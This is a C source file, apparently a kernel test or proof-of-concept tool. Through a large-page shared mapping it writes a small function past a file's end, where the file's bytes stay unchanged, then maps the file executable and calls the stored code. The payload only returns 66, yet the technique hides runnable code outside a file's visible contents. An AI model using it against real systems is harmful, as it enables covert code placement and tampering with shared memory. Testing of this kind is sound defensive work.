// SPDX-License-Identifier: Apache-2.0
// tail VERB FILE [OFFSET]: what is mapped of a file goes on behind its end, to the end of its last
// page, which may be a large one.
//   write  puts a function that returns 66 at OFFSET (2048), behind the end of FILE, through a
//          shared mapping; no byte of the file changes
//   keep   the same, and keeps the mapping, but no descriptor, until its standard input ends
//   call   maps FILE executable and calls what stands at OFFSET
#include "memory.h"

#include <stdint.h>
#include <sys/stat.h>

#define LARGE (2UL << 20)

static size_t offset = 2048;

/* Where a large page can be shown as one. */
static unsigned char *map_file(int flags, int protection, int sharing)
{
	unsigned char *room = mmap(NULL, 2 * LARGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	int descriptor = open_file(flags);
	struct stat status;
	void *memory;

	if (fstat(descriptor, &status) || (size_t)status.st_size > offset)
		setup_failed("%s is too long", file);
	room += -(uintptr_t)room & (LARGE - 1);
	memory = mmap(room, LARGE, protection, sharing | MAP_FIXED, descriptor, 0);
	if (memory == MAP_FAILED)
		attack_ends("mapping", -1);
	close(descriptor);
	return memory;
}

static unsigned char *write_tail(void)
{
	unsigned char *memory = map_file(O_RDWR, READ_WRITE, MAP_SHARED);

	/* The first page is in the file. Where it is a large one, the rest comes with it. */
	__atomic_fetch_or(memory, 0, __ATOMIC_SEQ_CST);
	memcpy(memory + offset, evil, sizeof(evil));
	return memory;
}

static void write_once(void)
{
	attack_ends("write", munmap(write_tail(), LARGE));
}

static void keep(void)
{
	char byte;

	write_tail();
	puts("kept");
	while (read(STDIN_FILENO, &byte, 1) > 0)
		;
	attack_ends("keep", 0);
}

static void call_tail(void)
{
	unsigned char *memory = map_file(O_RDONLY, READ_EXEC, MAP_PRIVATE);

	if (!*(volatile unsigned char *)memory || !memory[offset])
		setup_failed("nothing stands behind the end");
	call("bytes behind the end", memory + offset);
}

static const struct verb verbs[] = {
	{"write", write_once},
	{"keep", keep},
	{"call", call_tail},
};

int main(int argc, char **argv)
{
	if (argc > 3)
		offset = strtoul(argv[3], NULL, 0);
	run_verb(argc, argv, verbs, sizeof(verbs) / sizeof(*verbs));
}
